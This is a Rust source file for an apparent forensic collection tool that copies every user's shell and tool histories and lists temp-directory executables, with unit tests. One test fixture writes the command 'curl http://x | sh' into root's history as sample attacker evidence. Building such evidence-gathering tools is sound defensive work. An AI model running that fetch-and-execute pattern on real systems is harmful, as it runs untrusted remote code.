//! `Shell histories/`: the shell and tool histories of every user (`<user>/<name>`,
//! keeping the newest part of one over the file cap), and what sits in the world-writable
//! temporary directories, with hashes of what can run (`temp_executables.csv`, see
//! [`temp_files`]).

use casefile_package::{ItemOutcome, ItemSink};

use crate::{CollectError, Collector, Context};

use super::accounts::{copy_home_file, homes};
use super::common::{UniqueNames, copy_tail};

mod temp_files;

pub struct Histories;

/// History files in a home, and the name each gets in the package.
pub(crate) const HISTORY_FILES: [(&str, &str); 11] = [
    (".bash_history", ".bash_history"),
    (".zsh_history", ".zsh_history"),
    (".sh_history", ".sh_history"),
    (".ash_history", ".ash_history"),
    (".history", ".history"),
    (".local/share/fish/fish_history", "fish_history"),
    (".python_history", ".python_history"),
    (".mysql_history", ".mysql_history"),
    (".psql_history", ".psql_history"),
    (".lesshst", ".lesshst"),
    (".viminfo", ".viminfo"),
];

impl Collector for Histories {
    fn name(&self) -> &'static str {
        "histories"
    }

    fn folder(&self) -> &'static str {
        "Shell histories"
    }

    fn collect(&self, ctx: &Context, sink: &mut dyn ItemSink) -> Result<(), CollectError> {
        let sink: &mut dyn ItemSink = &mut UniqueNames::new(sink);
        let mut copied = 0;
        for home in homes(ctx) {
            for (file, name) in HISTORY_FILES {
                // Histories grow at the end: the newest commands are what matters.
                let item = format!("{}/{name}", home.label);
                copied += usize::from(copy_home_file(ctx, sink, &home, (file, &item), copy_tail)?);
            }
            ctx.check_cancelled()?;
        }
        if copied == 0 {
            let source = "~/.bash_history, ~/.zsh_history, … of every home in /etc/passwd and /root";
            sink.file("histories", source, |_| Ok(ItemOutcome::not_applicable("no history files")))?;
        }
        temp_files::write_temp_listing(ctx, sink)?;
        ctx.check_cancelled()
    }
}

#[cfg(test)]
mod tests {
    use casefile_package::ItemStatus;

    use crate::Limits;
    use crate::collectors::test_support::{Fixture, PASSWD_FIXTURE, run, run_with};

    use super::*;

    #[test]
    fn histories_of_every_home_are_copied() {
        let f = Fixture::new();
        f.write("/etc/passwd", PASSWD_FIXTURE);
        f.write("/root/.bash_history", "id\ncurl http://x | sh\n");
        f.write("/home/alice/.zsh_history", ": 1700000000:0;ls\n");
        f.write("/home/alice/.local/share/fish/fish_history", "- cmd: whoami\n");
        f.symlink("/dev/null", "/home/bob/.bash_history");
        f.fifo("/home/bob/.viminfo");
        f.give_homes();
        let sink = run(&Histories, f.root());
        assert_eq!(sink.item("root/.bash_history").text(), "id\ncurl http://x | sh\n");
        assert_eq!(sink.item("root/.bash_history").source, "/root/.bash_history");
        assert_eq!(sink.item("alice/.zsh_history").status(), ItemStatus::Ok);
        assert_eq!(sink.item("alice/fish_history").text(), "- cmd: whoami\n");
        let wiped = sink.item("bob/.bash_history");
        assert_eq!(wiped.status(), ItemStatus::NotApplicable);
        assert!(wiped.outcome.error.as_ref().unwrap().contains("symbolic link to /dev/null"), "{:?}", wiped.outcome);
        assert_eq!(sink.item("bob/.viminfo").status(), ItemStatus::NotApplicable, "a FIFO is not read");
        assert!(!sink.names().contains(&"histories"));
    }

    /// Permissions do not stop root, so the file is copied or, for an unprivileged
    /// agent, fails with the reason; either way the other files are still collected.
    #[test]
    fn an_unreadable_history_fails_alone() {
        use std::os::unix::fs::PermissionsExt;
        let f = Fixture::new();
        f.write("/root/.bash_history", "secret\n");
        f.write("/root/.zsh_history", "ls\n");
        std::fs::set_permissions(f.path("/root/.bash_history"), std::fs::Permissions::from_mode(0o000)).unwrap();
        let sink = run(&Histories, f.root());
        let locked = sink.item("root/.bash_history");
        if rustix::process::geteuid().is_root() {
            assert_eq!(locked.text(), "secret\n");
        } else {
            assert_eq!(locked.status(), ItemStatus::Failed);
            assert!(locked.outcome.error.as_ref().unwrap().contains("ermission denied"), "{:?}", locked.outcome);
        }
        assert_eq!(sink.item("root/.zsh_history").text(), "ls\n");
    }

    #[test]
    fn a_history_over_the_cap_keeps_its_newest_lines() {
        let f = Fixture::new();
        let history: String = (0..1000).map(|i| format!("command number {i}\n")).collect();
        f.write("/root/.bash_history", &history);
        let limits = Limits { max_file_bytes: 100, ..Limits::default() };
        let sink = run_with(&Histories, f.root(), limits);
        let item = sink.item("root/.bash_history");
        assert_eq!(item.status(), ItemStatus::Partial);
        let kept = item.text();
        assert!(kept.ends_with("command number 999\n"), "{kept}");
        assert!(kept.starts_with("command number "), "starts on a whole line: {kept}");
        assert!(kept.len() <= 100);
        let why = item.outcome.error.clone().unwrap();
        assert_eq!(why, format!("kept the newest {} of {} bytes", kept.len(), history.len()));
    }

    #[test]
    fn no_histories_is_one_not_applicable_item() {
        let sink = run(&Histories, Fixture::new().root());
        assert_eq!(sink.item("histories").status(), ItemStatus::NotApplicable);
    }
}
